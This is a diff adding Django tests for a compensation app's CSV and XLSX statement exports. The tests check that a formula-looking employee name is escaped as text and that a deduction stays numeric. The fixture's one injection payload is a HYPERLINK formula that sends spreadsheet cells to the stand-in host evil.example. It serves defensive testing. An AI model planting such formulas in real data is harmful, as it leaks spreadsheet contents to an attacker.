@@ -146,6 +146,54 @@ def test_export_xlsx_has_the_lines_and_the_total(client, people):
     assert float(values[-1][7]) == 38000.0
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A3&B3,"Открыть")'
+
+
+@pytest.fixture
+def formula_named_hunter_with_a_deduction(people):
+    """A hunter whose name is a spreadsheet formula, with a -500.00 correction in March."""
+    ivanov = people["ivanov"]
+    ivanov.full_name = FORMULA_NAME
+    ivanov.save(update_fields=["full_name"])
+    adjustment_add(
+        acting_user=people["head"],
+        hunter=ivanov,
+        month=date(2026, 3, 1),
+        amount=Decimal("-500.00"),
+        reason="Штраф",
+    )
+    return ivanov
+
+
+def test_export_csv_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_number(
+    client, people, formula_named_hunter_with_a_deduction
+):
+    client.force_login(people["buh"])
+    response = client.get(reverse("compensation:statements"), {"month": MARCH, "export": "csv"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+
+    ivanov_rows = [row for row in rows if row[0].endswith(FORMULA_NAME)]
+    assert ivanov_rows and {row[0] for row in ivanov_rows} == {"'" + FORMULA_NAME}
+    assert not [value for row in rows for value in row if value.startswith(("=", "+", "@", "\t", "\r"))]
+    [deduction] = [row for row in ivanov_rows if row[4] == "Корректировка: Штраф"]
+    assert deduction[7] == "-500,00"  # a number Russian Excel reads as one, not "'-500,00"
+
+
+def test_export_xlsx_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_number(
+    client, people, formula_named_hunter_with_a_deduction
+):
+    client.force_login(people["head"])
+    response = client.get(reverse("compensation:statements"), {"month": MARCH, "export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    names = {row[0].value for row in sheet.iter_rows(min_row=2) if row[0].value.endswith(FORMULA_NAME)}
+    assert names == {"'" + FORMULA_NAME}
+    [deduction] = [row for row in sheet.iter_rows(min_row=2) if row[4].value == "Корректировка: Штраф"]
+    assert deduction[7].data_type == "n" and deduction[7].value == -500
+
+
 def test_scheme_page_shows_the_live_rates_and_only_the_head_changes_them(client, people):
     client.force_login(people["ivanov"])
     page = text(client.get(reverse("compensation:scheme")))
